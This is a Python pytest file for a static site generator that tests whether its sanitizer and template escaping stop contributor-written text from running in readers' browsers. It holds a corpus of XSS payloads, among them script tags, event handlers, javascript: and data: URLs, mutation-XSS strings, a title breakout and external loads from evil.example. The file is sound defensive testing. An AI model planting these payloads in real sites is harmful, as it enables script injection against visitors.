"""Nothing a contributor writes reaches a reader in executable form.

A corpus of injection payloads goes into every text field a contributor
controls: bodies, titles, summaries, steps, quotes, names, places, outcomes,
tags and the playbook's own configuration. The site is built with the
content rules switched off (so the sanitizer and the templates' escaping
are all that stand between a payload and a reader), and every built page
and the search index are then read with an HTML parser. Each payload
carries the marker PWN, so the theme's own scripts never count against it.
"""

from __future__ import annotations

import functools
import http.server
import threading
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import yaml

from generator import build as pipeline
from generator.errors import ContentError
from generator.export import write_exports
from generator.load import load_catalogue
from generator.markup import removed_markup, render_markdown, url_scheme
from generator.search import read_fragments
from generator.validate import check

MARKER = "PWN"
PAYLOADS = [
    "<script>alert('PWN')</script>",
    "</title><script>alert('PWN')</script>",
    "<SCRIPT SRC=https://evil.example/PWN.js></SCRIPT>",
    "<img src=x onerror=alert('PWN')>",
    "<svg onload=alert('PWN')>",
    "<svg><script>alert('PWN')</script></svg>",
    "<iframe src=\"javascript:alert('PWN')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('PWN')</script>\"></iframe>",
    "[open the form](javascript:alert('PWN'))",
    "[open the form](JaVaScRiPt:alert('PWN'))",
    "[open the form](java&#09;script:alert('PWN'))",
    "[open the form](&#106;avascript:alert('PWN'))",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">PWN</a>',
    "![PWN map](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<a href=\"vbscript:msgbox('PWN')\">PWN</a>",
    "<p style=\"background:url(javascript:alert('PWN'))\">PWN</p>",
    "<div style=\"width: expression(alert('PWN'))\">PWN</div>",
    "<table><tr><td style=\"x:expression(alert('PWN'))\" background=\"javascript:alert('PWN')\">PWN</td></tr></table>",
    "<scr<script>ipt>alert('PWN')</script>",
    "<<script>script>alert('PWN')<</script>/script>",
    "&lt;script&gt;alert('PWN')&lt;/script&gt;",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('PWN')>",
    "<object data=\"javascript:alert('PWN')\"></object>",
    "<embed src=\"javascript:alert('PWN')\">",
    "<form action=\"javascript:alert('PWN')\"><button>PWN</button></form>",
    "<details open ontoggle=alert('PWN')><summary>PWN</summary></details>",
    "<a href=\"#\" onclick=\"alert('PWN')\">PWN</a>",
    "<base href=\"javascript:alert('PWN')//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('PWN')\">",
    "<input type=\"text\" onfocus=\"alert('PWN')\" autofocus>",
    '<!--<img src="--><img src=x onerror=alert(\'PWN\')//">',
    "<noscript><p title=\"</noscript><img src=x onerror=alert('PWN')>\">",
    "[a](https://example.org \"t\\\" onmouseover=\\\"alert('PWN')\")",
    "<abbr title=\"x\" onmouseover=\"alert('PWN')\">PWN</abbr>",
    "<style>@import 'https://evil.example/PWN.css';</style>",
    "<link rel=stylesheet href=https://evil.example/PWN.css>",
    "{{ 7 * 7 }}PWN {% raw %}",
]
# Elements the theme never uses; in a page they can only have come from content.
FOREIGN = {"iframe", "object", "embed", "frame", "frameset", "applet", "base", "portal"}
# Attributes that may quote contributor text: it is shown, never run.
TEXT_ATTRIBUTES = {"title", "alt", "aria-label", "content", "value", "data-md-state"}


_THEME = (Path(__file__).parent.parent / "generator" / "theme" / "main.html").read_text(encoding="utf-8")
THEME_POLICY = _THEME.split('http-equiv="Content-Security-Policy" content="', 1)[1].split('"', 1)[0]


def _host(url: str) -> str:
    """The host part of an address, or the whole text when it does not parse as one."""
    try:
        return urlsplit(url.strip()).netloc or url.split("?")[0]
    except ValueError:
        return url


class Executable(HTMLParser):
    """Finds contributor markup a browser would run, load or obey."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._raw: str | None = None  # inside <script> or <style>

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FOREIGN:
            self.found.append(f"<{tag}>")
        # The theme's own Content-Security-Policy is the one http-equiv a page may carry.
        if tag == "meta" and any(name == "http-equiv" for name, _ in attrs) and dict(attrs).get("content") != THEME_POLICY:
            self.found.append("<meta http-equiv>")
        if tag in ("script", "style"):
            self._raw = tag
        for name, value in attrs:
            value = value or ""
            if name in ("href", "src", "action", "formaction", "data", "background", "poster", "xlink:href"):
                # A payload may be quoted, encoded, in the query of a link to the repository (an issue form); it must never be the host.
                if url_scheme(value) not in ("http", "https", "mailto", "") or (MARKER in value and "evil.example" in _host(value)):
                    self.found.append(f"<{tag} {name}={value!r}>")
            elif MARKER in value and name not in TEXT_ATTRIBUTES:
                self.found.append(f"<{tag} {name}={value!r}>")
            if name == "content" and MARKER in value and any(n == "http-equiv" for n, _ in attrs):
                self.found.append(f"<{tag} content={value!r}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == self._raw:
            self._raw = None

    def handle_data(self, data: str) -> None:
        if self._raw and MARKER in data:
            self.found.append(f"<{self._raw}>{data[:60]}")


def executable(html: str) -> list[str]:
    """What in this HTML would run, load or redirect because of a payload."""
    parser = Executable()
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_rendered_markdown_carries_no_payload_in_executable_form(payload: str) -> None:
    assert executable(render_markdown(payload)) == []
    assert executable(render_markdown(f"Before {payload} after\n\n- {payload}\n\n| a |\n| - |\n| {payload} |\n")) == []


def test_the_detector_sees_every_payload_unsanitized() -> None:
    # Guards the test itself: raw payloads (but the harmless ones) must look executable to it.
    import markdown

    # Entities and template syntax are text already; Markdown escapes the broken-up tag into a tag named "scr\\<script".
    # Python-Markdown escapes quotes in a link title itself.
    harmless = {"&lt;script&gt;alert('PWN')&lt;/script&gt;", "{{ 7 * 7 }}PWN {% raw %}", "<scr<script>ipt>alert('PWN')</script>"}
    harmless |= {p for p in PAYLOADS if p.startswith("[a](")}
    # Mutation payloads only a browser's parser turns into elements (Python's reads <style> and <noscript> as text).
    browser_only = {p for p in PAYLOADS if p.startswith(("<math>", "<noscript>"))}
    for payload in PAYLOADS:
        raw = markdown.markdown(payload)
        assert bool(executable(raw)) or payload in harmless | browser_only, payload


def test_check_refuses_markup_the_sanitizer_would_strip() -> None:
    refused = [p for p in PAYLOADS if removed_markup(p)]
    assert len(refused) >= 30
    assert not removed_markup("Plain **Markdown** with [a link](https://example.org) and a table:\n\n| a |\n| - |\n| b |\n")


def _payload_catalogue(root: Path) -> None:
    """Put every payload in every field a contributor writes, within the field limits."""
    for index, payload in enumerate(PAYLOADS):
        short = payload[:70]
        play = {
            "title": f"Play {index} {short}",
            "strategy": "connect",
            "status": "aspirational",
            "summary": payload,
            "body": f"## About {index}\n\n{payload}\n\nText {payload} more.\n\n- {payload}\n",
            "steps": [payload, f"Then {payload}"],
            "facets": {"workgroup": ["home"]},
            "soundbites": [{"quote": payload, "speaker": short, "organisation": short, "cohort": payload[:40]}],
            "related": ["map-programs"],
            "tags": [f"t{index} {payload[:30]}"],
            "reviewed": "2026-09-01",
        }
        (root / "plays" / f"payload-{index}.yml").write_text(yaml.safe_dump(play, allow_unicode=True), encoding="utf-8")
    # Every payload on one page too, in each place a play page shows text: for the browser to visit once.
    every = {
        "title": "Every payload",
        "strategy": "find",
        "status": "aspirational",
        "summary": PAYLOADS[1],
        "body": "\n\n".join(PAYLOADS),
        "steps": PAYLOADS,
        "facets": {"workgroup": ["k-12"]},
        "soundbites": [{"quote": p, "speaker": p[:80]} for p in PAYLOADS],
        "reviewed": "2026-09-01",
    }
    (root / "plays" / "every-payload.yml").write_text(yaml.safe_dump(every, allow_unicode=True), encoding="utf-8")
    vignette = {
        "title": PAYLOADS[2],
        "ecosystem": PAYLOADS[3],
        "place": PAYLOADS[0],
        "cohort": PAYLOADS[3][:40],
        "plays": ["payload-0"],
        "year": 2024,
        "story": "\n\n".join(PAYLOADS),
        "outcomes": [{"figure": p[:20], "label": p} for p in PAYLOADS[:6]],
    }
    (root / "vignettes" / "payload-story.yml").write_text(yaml.safe_dump(vignette, allow_unicode=True), encoding="utf-8")
    item = {
        "title": PAYLOADS[4],
        "section": "start",
        "kind": "guide",
        "summary": PAYLOADS[5],
        "body": "\n\n".join(PAYLOADS),
        "url": "https://example.org/PWN_(guide)?a=1&b=2#part",
        "plays": ["payload-1"],
    }
    (root / "toolkit" / "payload-guide.yml").write_text(yaml.safe_dump(item, allow_unicode=True), encoding="utf-8")
    config = yaml.safe_load((root / "playbook.yml").read_text(encoding="utf-8"))
    config.update(tagline=PAYLOADS[0], aim=PAYLOADS[2], notice=PAYLOADS[3])
    config["strategies"][0]["title"] = PAYLOADS[1]
    config["facets"][0]["values"][0]["label"] = PAYLOADS[4]
    (root / "playbook.yml").write_text(yaml.safe_dump(config, allow_unicode=True), encoding="utf-8")


@pytest.fixture(scope="module")
def payload_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The mini catalogue plus the payloads, built with only the field checks (no content rules)."""
    from conftest import FIXTURES, copy_catalogue

    root = copy_catalogue(FIXTURES / "mini", tmp_path_factory.mktemp("payloads") / "mini")
    _payload_catalogue(root)
    catalogue, _, problems = load_catalogue(root)
    assert problems == [], [p.format(root) for p in problems]
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(pipeline, "check", lambda r: (load_catalogue(r)[0], []))
        result = pipeline.build(root, outputs=[write_exports])  # the browse page links to the data; PDFs are not HTML
    assert result.site_dir is not None and len(catalogue.plays) == len(PAYLOADS) + 3
    return result.site_dir


def test_check_refuses_the_payload_catalogue(payload_site: Path) -> None:
    with pytest.raises(ContentError) as refused:
        check(payload_site.parent)
    assert sum("is not allowed" in p.message or "expected an http" in p.message for p in refused.value.problems) >= 30


def test_no_built_page_carries_a_payload_in_executable_form(payload_site: Path) -> None:
    pages = sorted(payload_site.rglob("*.html"))
    assert len(pages) > len(PAYLOADS)
    found = {str(page.relative_to(payload_site)): executable(page.read_text(encoding="utf-8")) for page in pages}
    assert {page: items for page, items in found.items() if items} == {}
    # The payloads did arrive: as text readers can see.
    body = (payload_site / "plays" / "payload-0" / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert" in body


def test_the_search_index_holds_payloads_as_the_text_readers_see(payload_site: Path) -> None:
    # Pagefind stores each page's text, not its markup: a payload is there as the characters the page shows,
    # and the search box must only ever insert it as text (checked in the browser below).
    records = read_fragments(payload_site / "pagefind")
    texts = [r["content"] for r in records if r["url"].startswith("/plays/")]
    assert any("<script>alert('PWN')" in text for text in texts), "the payloads did not reach the search index"
    for record in records:
        assert set(record["meta"]) <= {"title", "image", "image_alt", "kind", "status", "strategy"}, record["meta"]


def test_template_syntax_in_content_is_text(payload_site: Path) -> None:
    page = (payload_site / "plays" / f"payload-{len(PAYLOADS) - 1}" / "index.html").read_text(encoding="utf-8")
    assert "{{ 7 * 7 }}PWN" in page and "49PWN" not in page


def test_addresses_keep_their_characters(payload_site: Path) -> None:
    page = (payload_site / "toolkit" / "payload-guide" / "index.html").read_text(encoding="utf-8")
    assert 'href="https://example.org/PWN_(guide)?a=1&amp;b=2#part"' in page


class _QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.mark.browser
def test_no_payload_runs_in_a_real_browser(payload_site: Path, browser: Any) -> None:
    """Chromium opens every page a payload reached: no dialog, no request to the attacker's host."""
    handler = functools.partial(_QuietHandler, directory=str(payload_site))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}/"
    dialogs: list[str] = []
    foreign: list[str] = []
    context = browser.new_context()
    context.add_init_script("window.alert = window.confirm = window.prompt = (m) => { window.__pwned = String(m); };")

    def route(request_route: Any) -> None:
        url = request_route.request.url
        if not url.startswith(base):
            foreign.append(url)
            request_route.abort()
        else:
            request_route.continue_()

    context.route("**/*", route)
    page = context.new_page()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    # Overview pages show every title, summary, quote and tag; one play page every body, step and quote;
    # plays/payload-1 carries the '</title>' breakout in its title.
    paths = ["", "strategies/connect/", "tags/", "soundbites/", "browse/", "vignettes/payload-story/", "toolkit/payload-guide/"]
    paths += ["plays/every-payload/", "plays/payload-1/"]
    ran = []
    try:
        for path in paths:
            page.goto(base + path, wait_until="load")
            if page.evaluate("window.__pwned || ''"):
                ran.append(path)
        # Search results show titles and excerpts of the payload pages: as text and <mark> only.
        page.goto(base, wait_until="load")
        page.locator(".md-search__input").click()
        page.keyboard.type("PWN")
        page.locator(".md-search-result__item").first.wait_for(state="visible")
        while page.locator(".pb-search__more:visible").count():
            page.locator(".pb-search__more").click()
            page.wait_for_timeout(200)
        page.wait_for_timeout(500)
        if page.evaluate("window.__pwned || ''"):
            ran.append("search results")
        shown = page.eval_on_selector_all(
            ".md-search-result__list *", "all => all.map((e) => [e.tagName.toLowerCase(), ...e.getAttributeNames()].join(' '))"
        )
        assert len(shown) > 10 * 6, "too few search results to prove anything"
        allowed = {"li class", "a class href", "article class", "div class", "h1", "span class", "span class aria-hidden"}
        allowed |= {"p", "p class", "mark"}
        assert set(shown) <= allowed, set(shown) - allowed
    finally:
        context.close()
        server.shutdown()
        server.server_close()
    assert (ran, dialogs) == ([], [])
    assert [url for url in foreign if MARKER in url or "evil.example" in url] == []
